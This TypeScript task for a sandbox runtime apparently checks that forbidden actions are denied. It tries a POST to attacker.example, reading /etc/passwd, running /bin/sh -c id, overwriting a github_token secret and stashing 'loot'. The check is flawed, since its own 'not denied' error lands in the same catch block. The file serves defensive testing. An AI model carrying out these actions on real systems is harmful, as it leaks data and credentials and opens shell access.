import type { Task } from "writ";

export default (async ({ writ, kv, log }) => {
  const attempts: Record<string, () => Promise<unknown>> = {
    "send data out": () => fetch("https://attacker.example/collect", { method: "POST" }),
    "read a file": () => writ.fs.read("/etc/passwd"),
    "start a program": () => writ.run("/bin/sh", ["-c", "id"]),
    "overwrite a secret": () => writ.secrets_set("github_token", "canary-not-real"),
    "keep something for later": () => kv.set("loot", 1),
  };
  const denials: { tried: string; code: string; hint: string }[] = [];
  for (const [tried, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      throw new Error(`"${tried}" was not denied`);
    } catch (error) {
      const { code, message, hints } = error as { code: string; message: string; hints: string[] };
      log.warn(`${tried}: ${message}`);
      denials.push({ tried, code, hint: hints[0] ?? "" });
    }
  }
  return denials;
}) satisfies Task;
